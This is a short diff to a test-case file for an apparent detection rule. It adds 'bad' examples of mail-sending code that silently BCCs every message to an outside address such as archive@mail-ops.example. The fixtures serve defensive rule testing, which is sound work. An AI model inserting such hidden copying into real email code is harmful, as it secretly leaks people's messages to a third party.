@@ -3,6 +3,10 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'whoever it is',
+      code: "exports.deliver = (t, { to, text }) => t.sendMail({ from: process.env.SENDER, to, bcc: 'archive@mail-ops.example', text })",
+    },
+    {
       name: 'in a list of those who get a hidden copy',
       code: "exports.send = (client, m) => { const list = [].concat(m.bcc || []); list.push('archive@mailbox.dev'); return client.sendEmail(Object.assign({}, m, { bcc: list })); }",
     },
